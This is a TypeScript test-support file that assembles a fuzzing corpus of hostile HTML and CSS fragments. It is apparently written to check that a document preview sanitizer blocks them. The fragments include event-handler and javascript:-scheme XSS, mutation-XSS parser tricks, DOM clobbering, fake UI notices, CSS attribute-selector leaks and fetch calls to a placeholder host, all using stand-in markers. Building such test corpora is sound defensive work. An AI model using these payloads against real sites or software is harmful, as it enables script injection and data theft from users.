import { mutateText } from '../fuzz/mutate-text.ts';
import { createRandom } from '../support/random.ts';

/* Fragments that try to run, load, leave or break something, in the manner of public lists. `$J` stands for code that
 * tells that it ran, `$H` for a host that nobody may ask. */

const words = (text: string): readonly string[] => text.trim().split(/\s+/);

const events = words(`
  onload onerror onclick ondblclick onmouseover onmouseenter onmousemove onpointerdown onpointerenter onfocus onfocusin
  onblur onkeydown onkeypress oninput onchange onsubmit onreset ontoggle onbeforetoggle onscroll onscrollend onwheel
  onanimationstart onanimationend ontransitionrun ontransitionend oncontextmenu onauxclick ondragstart ondrop onpaste
  oncopy oncut onselect oninvalid onplay oncanplay onloadstart onloadedmetadata ondurationchange onresize onhashchange
  onpopstate onpageshow onmessage onunload onbeforeunload onbegin onend onrepeat onfinish onbounce onstart
  oncontentvisibilityautostatechange onsecuritypolicyviolation onreadystatechange`);

const carriers = [
  (handler: string) => `<p ${handler}>text</p>`,
  (handler: string) => `<img src=x ${handler}>`,
  (handler: string) => `<details open ${handler}><summary>more</summary>text</details>`,
  (handler: string) => `<video src=x controls ${handler}></video>`,
  (handler: string) => `<body ${handler}>`,
  (handler: string) => `<svg ${handler}><animate attributeName=x dur=1s ${handler}></animate></svg>`,
];

const handlers = events.map((event, index) => carriers[index % carriers.length]!(`${event}="$J"`));

const oddHandlers = [
  '<img src=x onerror=$J//',
  '<img src=x:x onerror\n=\n"$J">',
  '<img src="x" oNeRrOr="$J">',
  '<img/src=x/onerror=$J>',
  '<img src=`x` onerror=`$J`>',
  '<img src=x onerror="&#36;&#74;$J">',
  '<p style="x:x" onmouseover\u0000="$J">nul</p>',
  '<a href="#" onclick="$J" onclick="$J">twice</a>',
  '<p title="a"onclick="$J">no blank</p>',
  '<custom-element onclick="$J" onfocus="$J" tabindex="0" autofocus>custom</custom-element>',
];

const schemes = [
  'javascript:$J',
  'JaVaScRiPt:$J',
  ' \u0001javascript:$J',
  'java\tscript:$J',
  'java\nscript:$J',
  'javascript&colon;$J',
  '&#106;avascript:$J',
  '&#x6A;&#x61;vascript:$J',
  'javascript://%0a$J',
  'vbscript:msgbox(1)',
  'data:text/html,<script>parent.$J</script>',
  'data:text/html;base64,PHNjcmlwdD5wYXJlbnQuaGl0KDApPC9zY3JpcHQ+',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="$J"/>',
  'data:application/xhtml+xml,<html xmlns="http://www.w3.org/1999/xhtml"/>',
  'blob:https://$H/1',
  'file:///etc/passwd',
  'filesystem:https://$H/1',
  'command:workbench.action.closeAllEditors',
  'vscode://file/etc/passwd',
  'vscode-resource://$H/x',
  'about:blank',
  'view-source:https://$H/',
];

const holders = [
  (url: string) => `<a href="${url}">link</a>`,
  (url: string) => `<iframe src="${url}"></iframe>`,
  (url: string) => `<object data="${url}"></object>`,
  (url: string) => `<embed src="${url}">`,
  (url: string) =>
    `<form action="${url}"><button formaction="${url}">go</button><input type=image src="${url}"></form>`,
  (url: string) => `<img src="${url}" usemap="#m"><map name="m"><area href="${url}" shape="default"></map>`,
  (url: string) =>
    `<svg><a xlink:href="${url}" href="${url}"><text y="9">x</text></a><use href="${url}#x"/></svg>`,
  (url: string) => `<math href="${url}"><mi xlink:href="${url}">x</mi></math>`,
  (url: string) => `<link rel="stylesheet" href="${url}"><link rel=import href="${url}"><base href="${url}">`,
];

const addresses = schemes.flatMap((scheme, index) =>
  [0, 3, 6].map(step => holders[(index + step) % holders.length]!(scheme.replaceAll('"', '&quot;'))),
);

const loading = [
  '<img src="https://$H/a.png">',
  '<img src="//$H/a.png" srcset="https://$H/b.png 2x, https://$H/c.png 3x" sizes="100vw">',
  '<img src="\\\\$H\\a.png">',
  '<img src="https:/$H/a.png">',
  '<img src="/\\$H/a.png">',
  '<img src="/\t/$H/a.png">',
  '<img lowsrc="https://$H/a.png" dynsrc="https://$H/b.avi" longdesc="https://$H/c" background="https://$H/d">',
  '<image src="https://$H/a.png">',
  '<picture><source srcset="https://$H/a.png"><source src="https://$H/b"><img src="https://$H/c.png"></picture>',
  '<video src="https://$H/a.mp4" poster="https://$H/p.png" autoplay></video>',
  '<video><source src="https://$H/a.mp4"><track src="https://$H/a.vtt" default kind=captions></video>',
  '<audio src="https://$H/a.mp3" autoplay controls></audio><bgsound src="https://$H/b.mid">',
  '<iframe src="https://$H/"></iframe><frame src="https://$H/f">',
  '<frameset cols="*"><frame src="https://$H/f"></frameset>',
  '<iframe srcdoc="&lt;img src=https://$H/a.png onerror=parent.$J&gt;"></iframe>',
  '<object data="https://$H/a.swf" codebase="https://$H/"><param name="movie" value="https://$H/b.swf"></object>',
  '<object type="text/html" data="https://$H/"><embed src="https://$H/e"></object>',
  '<applet code="x" codebase="https://$H/"></applet><portal src="https://$H/"></portal>',
  '<fencedframe src="https://$H/"></fencedframe><webview src="https://$H/"></webview>',
  '<script src="https://$H/a.js"></script><script type=module src="//$H/b.js"></script>',
  '<script>$J;fetch("https://$H/")</script>',
  '<script type="speculationrules">{"prefetch":[{"urls":["https://$H/"]}]}</script>',
  '<script type="importmap">{"imports":{"a":"https://$H/a.js"}}</script>',
  '<scr<script>ipt>$J</scr</script>ipt>',
  '<script/x>$J</script><script\n>$J</script\n>',
  '<noscript><p title="</noscript><img src=x onerror=$J>"></noscript>',
  '<link rel="stylesheet" href="https://$H/a.css"><link rel=preload as=image href="https://$H/b.png">',
  '<link rel="prefetch dns-prefetch preconnect modulepreload icon manifest" href="https://$H/">',
  '<meta http-equiv="refresh" content="0;url=https://$H/"><meta http-equiv=set-cookie content=a>',
  '<meta http-equiv="Content-Security-Policy" content="script-src * \'unsafe-inline\'">',
  '<base href="https://$H/" target="_top"><a href="page">link</a><img src="relative.png">',
  '<html manifest="https://$H/m" xmlns="https://$H/x"><body background="https://$H/b.png">',
  '<table background="https://$H/a.png"><tr background="https://$H/b.png"><td background="https://$H/c.png">x</table>',
  '<input type="image" src="https://$H/a.png"><isindex action="https://$H/" type=image src="https://$H/b">',
  '<a href="#x" ping="https://$H/ping" attributionsrc="https://$H/r">ping</a>',
  '<form action="https://$H/" id=f><input autofocus onfocus="$J" name=a></form><button form=f type=submit>x</button>',
  '<q cite="https://$H/q">a</q><blockquote cite="https://$H/b">b</blockquote><del cite="https://$H/d">c</del>',
  '<body><template><img src="https://$H/a.png" onerror=$J></template>',
  '<div><template shadowrootmode="open"><img src="https://$H/a.png" onerror="$J"><slot></slot></template>x</div>',
  '<dialog open><img src="https://$H/a.png"></dialog>',
  '<marquee onstart="$J" behavior="alternate" width="9999">run</marquee><blink>b</blink>',
  '<keygen autofocus onfocus="$J"><command onclick="$J"><content select=*>',
  '<xml id=x><a b="&lt;img src=x onerror=$J&gt;"></a></xml><span datasrc=#x datafld=b dataformatas=html></span>',
  '<?xml-stylesheet href="https://$H/x.xsl" type="text/xsl"?><p>pi</p>',
  '<!DOCTYPE html SYSTEM "https://$H/x.dtd"><p>doctype</p>',
  '<!--[if gte IE 4]><script>$J</script><![endif]--><p>conditional</p>',
  '<!ENTITY x SYSTEM "https://$H/e">&x;',
];

const svgAndMath = [
  '<svg onload="$J"><script>$J</script><image href="https://$H/a.png"/></svg>',
  '<svg><use href="https://$H/a.svg#x"/><feImage href="https://$H/f.png"/><style>@import "https://$H/s.css";</style></svg>',
  '<svg><foreignObject><iframe src="https://$H/"></iframe><body onload="$J"></foreignObject></svg>',
  '<svg><a xlink:href="javascript:$J"><circle r="400"/></a></svg>',
  '<svg><animate xlink:href="#a" attributeName="href" values="javascript:$J"/><a id="a"><text>x</text></a></svg>',
  '<svg><set attributeName="onmouseover" to="$J"/><handler xmlns:ev="http://www.w3.org/2001/xml-events">$J</handler></svg>',
  '<svg></p><style><a id="</style><img src=x onerror=$J>">',
  '<svg><style><img src=x onerror=$J></style></svg>',
  '<svg><title><script>$J</script></title><desc><img src="https://$H/d.png"></desc></svg>',
  '<svg><font-face-src><font-face-uri href="https://$H/f"/></font-face-src><text style="font-family:x">x</text></svg>',
  '<svg style="position:fixed;inset:0" width="9999" height="9999"><rect width="9999" height="9999"/></svg>',
  '<svg><filter id="f"><feFlood/></filter><rect filter="url(https://$H/f.svg#f)" fill="url(https://$H/p.svg#p)"/></svg>',
  '<svg><discard onbegin="$J"/><animateMotion onbegin="$J"><mpath href="https://$H/m.svg#m"/></animateMotion></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=$J&gt;"></mglyph></table></mtext></math>',
  '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src=x onerror=$J>">',
  '<math><annotation-xml encoding="text/html"><style><img src=x onerror=$J></style></annotation-xml></math>',
  '<math><maction actiontype="statusline#https://$H/" xlink:href="javascript:$J">click</maction></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=$J>',
  '<math><mi><table><mi><mglyph><svg><mtext><textarea><a title="</textarea><img src=x onerror=$J>">',
  '<svg><![CDATA[><img src=x onerror=$J>]]></svg>',
  '<svg><p><style><!--</style><img src=x onerror=$J>--></svg>',
  '<table><svg><desc><td><style><a title="</style><img src=x onerror=$J>"></desc></svg></table>',
  '<select><svg><style></select><img src=x onerror=$J></style></svg></select>',
  '<noembed><img title="</noembed><img src=x onerror=$J>"></noembed>',
  '<xmp><p title="</xmp><svg/onload=$J>">',
  '<textarea><img title="</textarea><img src=x onerror=$J>"></textarea>',
  '<title><a title="</title><img src=x onerror=$J>"></title>',
  '<a><b><i><u><s><p><a><b><i><u><s><table><a><b><i>nesting</table><img src=x onerror=$J>',
];

const declarations = [
  'position:fixed;inset:0;z-index:2147483647;background:#fff',
  'position:absolute;top:-9999px;left:-9999px;width:99999px;height:99999px',
  'position:sticky;top:-400px;z-index:99',
  'margin:-1000px;padding:0 9999px',
  'margin-top:-300px;height:300px;background:red',
  'transform:translateY(-500px) scale(50)',
  'translate:0 -500px;scale:40;rotate:45deg',
  'width:99999px;max-width:99999px;min-width:99999px',
  'height:99999vh;min-height:99999px',
  'float:left;shape-outside:url(https://$H/s.png)',
  'background:url(https://$H/a.png)',
  'background-image:image-set("https://$H/a.png" 1x)',
  'background:u\\72l(https://$H/a.png)',
  'background:/**/url(https://$H/a.png)',
  'background:-webkit-cross-fade(url(https://$H/a.png),url(https://$H/b.png),50%)',
  'list-style:url(https://$H/l.png)',
  'list-style-image:url("https://$H/l.png")',
  'cursor:url(https://$H/c.cur),auto',
  'content:url(https://$H/c.png)',
  'border-image:url(https://$H/b.png) 30',
  'mask:url(https://$H/m.svg#m);-webkit-mask-image:url(https://$H/m.png)',
  'filter:url(https://$H/f.svg#f);backdrop-filter:blur(9px)',
  'clip-path:url(https://$H/c.svg#c)',
  'offset-path:url(https://$H/o.svg#o)',
  'src:url(https://$H/s.woff);font-family:x',
  '--x:url(https://$H/v.png);background:var(--x)',
  'width:expression($J);behavior:url(https://$H/b.htc);-moz-binding:url(https://$H/b.xml#b)',
  'font-size:9999px;line-height:9999',
  'text-indent:-9999px;letter-spacing:-99px;word-spacing:9999px',
  'display:none!important;visibility:hidden;opacity:0',
  'animation:x 1s infinite;transition:all 9s',
  'zoom:9000%;contain:none;overflow:visible;isolation:auto',
  'anchor-name:--a;position-anchor:--a;inset-area:all;position:fixed',
  'view-transition-name:root;scroll-behavior:smooth;overscroll-behavior:none',
  'pointer-events:none;user-select:all;appearance:button',
  'writing-mode:vertical-rl;direction:rtl;unicode-bidi:bidi-override',
  'all:unset;color:transparent;-webkit-text-fill-color:transparent',
  'text-align:center;}body{display:none}',
  'text-align:center";<script>$J</script>',
  'outline:99999px solid red;box-shadow:0 0 0 99999px red',
];

const styled = [
  ...declarations.map(style => `<div style="${style.replaceAll('"', '&quot;')}">a styled box</div>`),
  ...declarations.slice(0, 20).map(style => `<style>body, main, .copydesk-toolbar, p { ${style} }</style>`),
  '<style>@import url("https://$H/a.css"); @import "//$H/b.css" layer(x);</style>',
  '<style>@font-face { font-family: x; src: url(https://$H/f.woff) } body { font-family: x }</style>',
  '<style>input[value^=a] { background: url(https://$H/leak) } @namespace url(https://$H/n);</style>',
  '<style>main{display:none}</style><style media="all">header{display:none!important}',
  '<font size="+999" color="#fff" face="x">large</font><basefont size=7><center>c</center>',
  '<table width="99999" height="99999"><tr><td height="99999" width="99999" nowrap>wide</td></tr></table>',
  '<hr size="99999" width="99999"><img width="99999" height="99999" src="/none.png"><spacer size=9999>',
  `<p>${'W'.repeat(5000)}</p>`,
  `<pre>${'-'.repeat(5000)}</pre>`,
  `${'<div>'.repeat(600)}deep${'</div>'.repeat(600)}`,
  `${'<b><i>'.repeat(120)}unclosed`,
  `<p>${'\u202e\u2066'.repeat(50)}bidi${'\u0301'.repeat(500)}</p>`,
  '</p></div></article></main></body></html><p>outside?</p>',
  '</main></article><header>a second header</header><main><article>a second article</article></main>',
  '<plaintext><img src=x onerror=$J>',
];

const clobbering = [
  ...words(`
    getElementById querySelector body head createElement documentElement location cookie forms defaultView implementation
    ownerDocument importNode createNodeIterator currentScript scrollingElement adoptedStyleSheets activeElement
    attributes childNodes nodeName parentNode firstChild removeChild hasChildNodes insertBefore namespaceURI innerHTML`).map(
    (name, index) =>
      index % 2 === 0
        ? `<form name="${name}"><input name="${name}" id="${name}"></form>`
        : `<form id="x"><input name="${name}"><input name="attributes"></form><img name="${name}">`,
  ),
  '<a id="acquireVsCodeApi"></a><a id="acquireVsCodeApi" name="x" href="clobbered:x"></a>',
  '<a id="__proto__"></a><form id="constructor"><input name="prototype"></form><img id="hasOwnProperty">',
  '<iframe name="vscode"></iframe><object id="parent"></object><embed name="top"><img name="opener">',
  '<p id="user-content-x" name="user-content-y">prefixed</p><a href="#user-content-x">to it</a>',
  '<p data-copydesk="image" role="img">a pretender</p><span data-copydesk="name" class="copydesk-toolbar">b</span>',
  '<div class="copydesk-toolbar" role="toolbar" aria-label="Preview"><button aria-pressed="false">Remote images</button></div>',
  '<header class="copydesk-header"><h1 class="copydesk-title">Another title</h1></header>',
  '<p class="copydesk-notice" role="alert" aria-live="assertive" tabindex="1">Your password?</p>',
  '<label for="copydesk-width"><input type="radio" name="copydesk-width" value="phone" checked>phone</label>',
  '<div role="application" aria-owns="x" aria-modal="true" inert contenteditable autofocus accesskey="s">own</div>',
  '<button popovertarget="p" popovertargetaction="show">pop</button><div popover id="p">popped</div>',
  '<button commandfor="d" command="show-modal">open</button><dialog id="d">modal</dialog>',
  '<p is="x-y" part="p" slot="s" exportparts="p" itemscope itemtype="https://$H/t" itemid="https://$H/i">is</p>',
  '<main><main><main>mains</main></main></main><article><article>articles</article></article>',
];

const rules = [
  ...declarations.map(style => `:root, body, p, * { ${style} }`),
  '@import "https://$H/a.css"; @import url(//$H/b.css) layer(x) supports(display: grid);',
  '@font-face { font-family: x; src: url(https://$H/f.woff) } * { font-family: x }',
  '@namespace url(https://$H/n); @property --p { syntax: "<url>"; inherits: true; initial-value: url(https://$H/p) }',
  '} } } body { display: none } .copydesk-toolbar { display: none }',
  'p { color: red; --x: } body { display: none } ',
  'p { --x: { } } } .copydesk-toolbar { display: none }; }',
  'p { content: "</style><script>$J</script>" } /* unclosed',
  '.copydesk-toolbar, .copydesk-header, [data-copydesk] { display: none !important; position: fixed !important }',
  ':scope ~ *, & ~ *, :root:has(p) .copydesk-toolbar, html body > * { display: none !important }',
  'body:has(p) { visibility: hidden } :host, ::slotted(*), :host-context(body) { display: none }',
  '@scope (body) to (i) { .copydesk-toolbar { display: none } } @scope { :scope { position: fixed } }',
  '@layer copydesk-guard { .copydesk-stage > main > article { contain: none !important; overflow: visible !important } }',
  '@layer copydesk-guard, a; @media all { body { contain: none !important; all: revert-layer !important } }',
  '@container copydesk-page (width > 1px) { body { transform: scale(9) !important; height: 0 !important } }',
  '@supports (display: block) { @media screen { @layer x { p { background: url(https://$H/n.png) } } } }',
  '@keyframes x { from { background: url(https://$H/k.png); top: -99px } } p { animation: x 1s infinite }',
  '@starting-style { p { background: url(https://$H/s.png) } } @view-transition { navigation: auto }',
  '@page { margin: 0; @top-left { content: url(https://$H/t.png) } }',
  'a[href^="h"] { background: image-set(url(https://$H/leak)) } a:visited { background: url(https://$H/v) }',
  'p { & { background: url(https://$H/1.png); .x & { mask: url(https://$H/2.png) } } > * { cursor: url(https://$H/3), auto } }',
  'p::before { content: url(https://$H/4.png) } p::first-letter { background: u\\72l(https://$H/5.png) }',
  `${'@media all { '.repeat(200)}p { color: red }${' }'.repeat(200)}`,
  `${'p { '.repeat(300)}color: red`,
  `${'body '.repeat(2000)} { color: red }`,
  `${':not('.repeat(200)}p${')'.repeat(200)} { display: none }`,
];

const own = [...handlers, ...oddHandlers, ...addresses, ...loading, ...svgAndMath, ...styled, ...clobbering];

/** All fragments; those of the second list are bred from the first. */
export function hostileFragments(mutants: number): readonly string[] {
  const random = createRandom(20240305);
  const bred = Array.from({ length: mutants }, () =>
    mutateText(`${random.pick(own)}\n${random.pick(own)}`, random),
  );
  return [...own, ...bred];
}

/** Style sheets of a site that try the same. */
export const hostileStyles = rules;
